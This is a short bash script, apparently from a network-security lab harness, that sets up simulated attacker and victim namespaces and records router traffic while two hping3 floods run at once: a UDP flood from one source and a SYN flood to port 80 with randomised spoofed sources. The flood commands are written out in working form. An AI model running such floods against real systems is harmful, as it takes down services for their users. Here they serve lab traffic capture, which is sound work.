#!/bin/bash
# Two floods of one victim at once: SYN to port 80 (one source in hiding, hping3
# --rand-source) and UDP (one source).
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
web victim 80 443
outside second 198.51.100.99
record router wan -s 96
ip netns exec "$net-second" timeout 12 hping3 -q -n -I eth0 --udp -p 9999 -d 64 -i u60 -c 20000 10.20.0.10 >/dev/null 2>&1 &
udp=$!
on attacker timeout 12 hping3 -q -n -I eth0 -S -p 80 --rand-source -i u300 -c 6000 10.20.0.10 >/dev/null 2>&1 || true
wait $udp || true
LAB_TAIL=2 recorded
